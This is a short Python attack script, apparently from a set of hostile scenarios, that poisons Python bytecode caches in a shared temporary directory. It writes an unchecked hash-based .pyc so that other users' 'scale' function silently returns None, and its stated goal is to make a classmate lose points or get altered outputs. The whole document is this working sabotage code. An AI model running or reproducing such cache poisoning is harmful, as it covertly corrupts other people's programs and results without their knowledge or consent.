# Puts bytecode of its own into the caches of others' runs, marked as never to be checked.
# Success: a classmate loses points, or their outputs change.
# %% first
import glob
import importlib.util
import os
import tempfile

code = compile("def scale(x, factor):\n    return None\n", "earlier.py", "exec")
data = importlib._bootstrap_external._code_to_hash_pyc(code, b"\0" * 8, False)
top = GIVEN.get("tmp") or tempfile.gettempdir()
for path in glob.glob(top + "/**/core/earlier.py", recursive=True) if TAG in top else []:
    if os.path.commonpath([os.getcwd(), path]) == top:
        cache = importlib.util.cache_from_source(path)
        attempt(os.makedirs, os.path.dirname(cache))
        attempt(lambda: open(cache, "wb").write(data))
